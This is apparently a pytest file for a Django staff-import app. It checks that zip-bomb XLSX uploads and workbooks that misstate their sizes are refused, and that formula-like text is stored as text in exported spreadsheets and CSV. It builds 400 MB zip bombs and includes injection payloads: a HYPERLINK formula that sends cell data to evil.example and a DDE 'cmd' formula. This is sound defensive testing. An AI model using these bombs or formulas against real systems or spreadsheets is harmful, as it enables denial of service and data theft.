"""Hostile Office files: zip bombs are refused before anything unpacks them, and text that looks like a
formula is written into every spreadsheet we hand out as text."""

import io
import re
import struct
import tracemalloc
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from people import importing
from people.importing import ImportFileError, parse_upload
from people.models import Staff
from people.office_files import ArchiveRefused, csv_text, sheet_append_text, zip_bounds_check

MB = 1024 * 1024
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=1+cmd|' /C calc'!A0", "=SUM(1,2)")


MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
# A member's XML around one huge text: the first sheet's only cell, or the shared strings the issue saw.
WRAPS = {
    "xl/worksheets/sheet1.xml": (
        b"<worksheet " + MAIN + b'><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>',
        b"</t></is></c></row></sheetData></worksheet>",
    ),
    "xl/sharedStrings.xml": (b"<sst " + MAIN + b"><si><t>", b"</t></si></sst>"),
}


def bomb_xlsx(*, unpacked_mb: int, member: str = "xl/worksheets/sheet1.xml") -> bytes:
    """The staff template with one member swapped for `unpacked_mb` MB of one letter: ~1 KB packed per MB."""
    template = zipfile.ZipFile(io.BytesIO(importing.template_xlsx()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in template.infolist():
            if info.filename != member:
                archive.writestr(info.filename, template.read(info.filename))
        with archive.open(member, "w", force_zip64=True) as handle:
            head, tail = WRAPS[member]
            handle.write(head)
            block = b"A" * MB
            for _ in range(unpacked_mb):
                handle.write(block)
            handle.write(tail)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    data = bomb_xlsx(unpacked_mb=400)
    assert len(data) < 600 * 1024  # ~400 KB on disk
    return data


def test_a_400_mb_workbook_is_refused_before_it_is_read_and_with_little_memory(db, bomb):
    tracemalloc.start()
    try:
        with pytest.raises(ImportFileError) as caught:
            parse_upload(io.BytesIO(bomb), "bom.xlsx")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "khi giải nén chiếm 400 MB, vượt giới hạn 100 MB" in str(caught.value)
    # A loose bound: reading it would take gigabytes; refusing it takes about the file itself.
    assert peak < 20 * MB, peak


def test_the_import_page_refuses_the_bomb_with_a_vietnamese_message(demo, login, bomb):
    office = login("vanphong")
    response = office.post(reverse("people:import"), {"file": SimpleUploadedFile("bom.xlsx", bomb)})
    assert response.status_code == 200
    assert "bom nén" in response.content.decode()


def test_a_member_packed_far_tighter_than_office_files_ever_are_is_refused():
    data = bomb_xlsx(unpacked_mb=30, member="xl/sharedStrings.xml")  # under the total, 1000× packed
    with pytest.raises(ArchiveRefused) as caught:
        zip_bounds_check(data)
    assert "“xl/sharedStrings.xml” trong tệp nén tới" in str(caught.value)


def test_an_honest_workbook_passes_the_bounds():
    zip_bounds_check(importing.template_xlsx())
    zip_bounds_check(b"not a zip at all")  # left to the reader to reject


def _lie_about_size(data: bytes, member: str, size: int) -> bytes:
    """Rewrite the uncompressed size a member declares (local header and central directory) to `size`."""
    out = bytearray(data)
    name = member.encode()
    for signature, size_offset, name_offset in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        for match in re.finditer(re.escape(signature), bytes(out)):
            start = match.start()
            if out[start + name_offset : start + name_offset + len(name)] == name:
                out[start + size_offset : start + size_offset + 4] = struct.pack("<I", size)
    return bytes(out)


def test_a_workbook_that_lies_about_its_sizes_cannot_unpack_past_them(db):
    template = zipfile.ZipFile(io.BytesIO(importing.template_xlsx()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in template.infolist():
            content = template.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, tail = WRAPS[info.filename]
                content = head + b"B" * (60 * MB) + tail
            archive.writestr(info.filename, content)
    data = _lie_about_size(buffer.getvalue(), "xl/worksheets/sheet1.xml", 2048)
    zip_bounds_check(data)  # the declared sizes are small...

    tracemalloc.start()
    try:
        with pytest.raises(ImportFileError):  # ...and unpacking stops at them: the member fails its check
            parse_upload(io.BytesIO(data), "noi-doi.xlsx")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 20 * MB, peak


def test_the_registration_excel_refuses_the_bomb(demo, bomb):
    from workflows.casework import registration_excel

    staff = list(Staff.objects.filter(unit__code="QHXD"))
    parsed = registration_excel.parse(SimpleUploadedFile("dang-ky.xlsx", bomb), staff=staff)
    assert parsed.rows == {}
    assert len(parsed.errors) == 1 and "bom nén" in parsed.errors[0]["message"]


# Formula injection ---------------------------------------------------------------------------------------


def _cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for line in sheet.iter_rows() for cell in line]


def _no_formula_in_the_xml(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return not any(re.search(rb"<(\w+:)?f[ >]", archive.read(name)) for name in sheets)


def test_text_that_looks_like_a_formula_is_written_as_text():
    workbook = openpyxl.Workbook()
    sheet_append_text(workbook.active, ["Mã", *FORMULAS, 42])
    buffer = io.BytesIO()
    workbook.save(buffer)
    data = buffer.getvalue()

    cells = _cells(data)
    assert [c.value for c in cells] == ["Mã", *FORMULAS, 42]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "n"]
    assert _no_formula_in_the_xml(data)


def test_the_registration_download_writes_a_formula_name_and_initiative_as_text(demo):
    from workflows.casework import registration_excel

    staff = [Staff(pk=1, staff_code="CB1", full_name=FORMULAS[0]), Staff(pk=2, staff_code="CB2", full_name="An")]
    data = registration_excel.template(staff=staff, current={2: ("LĐTT", FORMULAS[1])})

    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook["Đăng ký"]
    assert sheet["B2"].value == FORMULAS[0] and sheet["B2"].data_type == "s"
    assert sheet["D3"].value == FORMULAS[1] and sheet["D3"].data_type == "s"
    assert all(c.data_type != "f" for c in _cells(data))
    assert _no_formula_in_the_xml(data)


def test_the_staff_templates_hold_no_formula():
    data = importing.template_xlsx()
    assert all(c.data_type != "f" for c in _cells(data)) and _no_formula_in_the_xml(data)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+cmd|' /C calc'!A0", "'=1+cmd|' /C calc'!A0"),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        (None, ""),
        (15, "15"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_compute_are_quoted(value, written):
    assert csv_text(value) == written
